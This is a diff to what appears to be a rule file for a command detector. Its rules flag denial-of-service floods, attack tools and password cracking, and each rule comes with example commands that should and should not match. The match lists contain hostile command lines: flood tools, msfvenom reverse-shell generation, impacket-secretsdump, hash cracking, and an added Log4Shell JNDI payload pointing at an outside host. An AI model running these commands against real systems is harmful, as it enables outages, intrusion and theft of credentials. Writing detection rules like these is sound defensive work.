@@ -12,8 +12,8 @@ RULES = family(
         when=effect("net.connect", "flood"),
         reason="A flood of requests is meant to take a service from its users",
         reversible=False,
-        match=["$ slowloris example.com", "$ goldeneye https://example.com"],
-        no_match=["$ ab -n 10 https://example.com/", "$ slowloris --help"],
+        match=["$ slowloris example.com", "$ goldeneye https://example.com", "$ hping3 -S --flood example.com"],
+        no_match=["$ ab -n 10 https://example.com/", "$ slowloris --help", "$ ping -c 3 example.com"],
     ),
     Rule(
         name="attack_tool",
@@ -31,6 +31,7 @@ RULES = family(
             "$ msfvenom -p linux/x64/shell_reverse_tcp -f elf",
             "$ evil-winrm -i 10.0.0.5 -u x",
             "$ impacket-secretsdump x@10.0.0.5",
+            "$ curl -H 'User-Agent: ${jndi:ldap://10.0.0.9/a}' https://app.example.com/login",
         ],
         no_match=["$ sqlmap -u http://localhost:5000/?id=1", "$ sqlmap --version", "$ sqlite3 app.db .tables"],
     ),
@@ -46,11 +47,11 @@ RULES = family(
     Rule(
         name="password_cracking",
         level=Level.HIGH,
-        when=effect("process.run", "crack"),
+        when=effect("process.run", "crack", without="names"),
         reason="Cracked hashes are other people's passwords",
         reversible=False,
         match=["$ john hashes.txt", "$ hashcat -m 0 hashes.txt words.txt", "$ fcrackzip -u -D -p words.txt a.zip"],
-        no_match=["$ hashcat --help", "$ john --version", "$ sha256sum a"],
+        no_match=["$ hashcat --help", "$ john --version", "$ john --test=1", "$ hashcat -b -m 0"],
     ),
     Rule(
         name="spoofing",
